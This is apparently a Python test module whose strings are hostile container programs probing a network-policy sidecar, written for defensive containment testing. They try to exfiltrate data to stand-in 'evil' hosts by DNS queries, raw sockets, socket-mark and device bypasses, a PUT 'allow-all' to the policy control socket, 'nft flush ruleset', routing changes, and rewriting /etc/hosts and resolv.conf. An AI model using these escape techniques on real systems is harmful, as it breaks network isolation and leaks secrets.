"""What a hostile program tries that shares the gate's network: programs for Python, run in containers.

Each prints what it met, and tries to have something reach the destination that no policy allows, or the name
server learn the name that tells a secret.
"""

from typing import Final

from tests.lab import plan

SECRET: Final = "secret-of-the-box.evil.test"
"""A name that must not be asked for."""

_QUESTION: Final = (
    f"question = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b''.join("
    f"bytes([len(part)]) + part for part in {SECRET.encode()!r}.split(b'.')) + b'\\0\\0\\x01\\0\\x01'\n"
)

_PRELUDE: Final = f"""
import glob, os, socket, struct, sys, time
EVIL, EVIL6, NS = {plan.EVIL4!r}, {plan.EVIL6!r}, {plan.NAMESERVER4!r}
{_QUESTION}
def attempt(what, action):
    try:
        print(what, 'came to', action())
    except Exception as error:
        print(what, 'met', repr(error))

def tcp(address=EVIL, port=22, prepare=lambda sock: None):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(1)
        prepare(sock)
        sock.connect((address, port))
        sock.sendall(b'secret')
        return sock.recv(100)

def udp(address=EVIL, port=443, prepare=lambda sock: None, data=b'secret'):
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.2)
        prepare(sock)
        sock.sendto(data, (address, port))
        return sock.recv(1000)

def all_ways(prepare=lambda sock: None):
    for address in (EVIL, EVIL6):
        attempt('TCP ' + address, lambda: tcp(address, prepare=prepare))
        attempt('UDP ' + address, lambda: udp(address, prepare=prepare))
    attempt('DNS', lambda: udp(NS, 53, prepare, question))

def hidden_ports(kind):
    with open('/proc/net/' + kind) as table:
        for line in list(table)[1:]:
            address, port = line.split()[1].split(':')
            if address == '0B00007F':
                yield int(port, 16)
"""


def program(attack: str) -> str:
    """The whole of it."""
    return _PRELUDE + attack


DIRECT: Final = "all_ways()"

MARK: Final = """
for mark in (1, 0x626f7801, 0x626f7802, 0xffffffff):
    all_ways(lambda sock: sock.setsockopt(socket.SOL_SOCKET, 36, struct.pack('=I', mark)))
"""

DEVICE: Final = """
all_ways(lambda sock: sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0\\0'))
"""

OWN_PORT_53: Final = """
def from_53(sock):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(('::' if sock.family == socket.AF_INET6 else '0.0.0.0', 53))
all_ways(from_53)
"""

GATES_USER: Final = """
for uid in (0, 65532):
    child = os.fork()
    if child == 0:
        attempt(f'setuid {uid}', lambda: (os.setgid(uid), os.setuid(uid)))
        print('user', os.getuid())
        all_ways()
        all_ways(lambda sock: sock.setsockopt(socket.SOL_SOCKET, 36, struct.pack('=I', 0x626f7801)))
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(child, 0)
"""

RAW: Final = """
def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def syn():
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect((EVIL, 9))
        source = probe.getsockname()[0]
    finally:
        probe.close()
    addresses = socket.inet_aton(source) + socket.inet_aton(EVIL)
    head = struct.pack('!HHIIBBHHH', 40000, 22, 1, 0, 5 << 4, 2, 65535, 0, 0)
    total = checksum(addresses + struct.pack('!BBH', 0, 6, len(head)) + head)
    head = head[:16] + struct.pack('!H', total) + head[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, 1, 0, 64, 6, 0) + addresses
    return ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:] + head

def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        return sock.sendto(syn(), (EVIL, 0))

def packet():
    gateway = next(line.split()[2] for line in open('/proc/net/route') if line.split()[1] == '00000000')
    gateway = socket.inet_ntoa(struct.pack('=I', int(gateway, 16)))
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as sock:
        # The name server's address, by ARP, is asked for by what is allowed: any packet to the gateway.
        known = [line.split() for line in open('/proc/net/arp')]
        hardware = next((row[3] for row in known if row[0] == gateway), 'ff:ff:ff:ff:ff:ff')
        return sock.sendto(syn(), ('eth0', 0x0800, 0, 0, bytes.fromhex(hardware.replace(':', ''))))

def ping(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
        head = struct.pack('!BBHHH', 8, 0, 0, 1, 1)
        head = struct.pack('!BBHHH', 8, 0, checksum(head + b'secret'), 1, 1) + b'secret'
        return sock.sendto(head, (EVIL, 0))

def other(protocol):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sock:
        return sock.sendto(b'secret', (EVIL, 0))

attempt('raw', raw)
attempt('packet', packet)
attempt('ping', lambda: ping(socket.SOCK_DGRAM))
attempt('raw ping', lambda: ping(socket.SOCK_RAW))
for protocol in (4, 41, 47, 132):
    attempt(f'protocol {protocol}', lambda: other(protocol))
"""

OTHER_PROTOCOLS: Final = """
def connected(protocol):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as sock:
        sock.settimeout(1)
        sock.connect((EVIL, 22))
        return sock.recv(100)
def at_once():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(1)
        sock.sendto(b'secret', 0x20000000, (EVIL, 22))  # MSG_FASTOPEN
        return sock.recv(100)
def datagram(protocol):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as sock:
        return sock.sendto(b'secret', (EVIL, 443))
attempt('TCP fast open', at_once)
for name, protocol in (('MPTCP', 262), ('SCTP', 132)):
    attempt(name, lambda: connected(protocol))
for name, protocol in (('UDP-Lite', 136), ('L2TP', 115)):
    attempt(name, lambda: datagram(protocol))
"""

DOCKERS_RESOLVER: Final = """
print('ports', list(hidden_ports('udp')), list(hidden_ports('tcp')))
for port in [53, *hidden_ports('udp')]:
    attempt(f'UDP {port}', lambda: udp('127.0.0.11', port, data=question))
def over_tcp(port):
    with socket.create_connection(('127.0.0.11', port), 2) as sock:
        sock.settimeout(2)
        sock.sendall(len(question).to_bytes(2) + question)
        return sock.recv(1000)
for port in [53, *hidden_ports('tcp')]:
    attempt(f'TCP {port}', lambda: over_tcp(port))
"""

CONTROL_SOCKET: Final = """
def unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(name)
        sock.sendall(b'PUT /v1/boxes/default/network-policy HTTP/1.1\\r\\nHost: localhost\\r\\n'
                     b'Content-Type: application/json\\r\\n'
                     b'Content-Length: 21\\r\\n\\r\\n{"mode": "allow-all"}')
        return sock.recv(1000)
names = {line.split()[7] for line in open('/proc/net/unix') if len(line.split()) == 8}
names |= {'/run/box-policy/control.sock', *glob.glob('/proc/*/root/run/box-policy/control.sock')}
for name in sorted(names):
    attempt(name, lambda: unix('\\0' + name[1:] if name.startswith('@') else name))
all_ways()
"""

FLUSH: Final = """
import subprocess
for command in (['nft', 'flush', 'ruleset'], ['nft', 'delete', 'table', 'inet', 'box_policy_sidecar']):
    done = subprocess.run(command, capture_output=True, text=True)
    print(command, 'came to', done.returncode, done.stderr.strip()[:100])
attempt('TCP', lambda: tcp())
"""

ROUTES: Final = """
import subprocess
for command in ('ip rule add to 51.81.66.66 lookup main', 'ip link add dummy0 type dummy',
                'ip tunnel add tunnel0 mode ipip remote 51.81.66.66', 'ip netns add other'):
    done = subprocess.run(command.split(), capture_output=True, text=True)
    print(command, 'came to', done.returncode, done.stderr.strip()[:100])
all_ways()
"""

SHARED_HOSTS: Final = f"""
attempt('/etc/hosts', lambda: open('/etc/hosts', 'w').write(EVIL + ' allowed.test\\n'))
time.sleep(1.5)  # it is looked at each second
with socket.socket() as sock:
    sock.settimeout(5)
    attempt('connect', lambda: sock.connect(('{plan.ALLOWED4}', 80)))
    attempt('send', lambda: sock.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'))
    attempt('receive', lambda: sock.recv(1000))
"""

SHARED_RESOLV_CONF: Final = """
attempt('/etc/resolv.conf', lambda: open('/etc/resolv.conf', 'w').write('nameserver ' + EVIL + '\\n'))
for number, pause in enumerate((0, 5.5)):  # it may be looked at every five seconds
    time.sleep(pause)
    attempt('name', lambda: socket.getaddrinfo(f'n{number}.wild.test', 80, socket.AF_INET))
"""
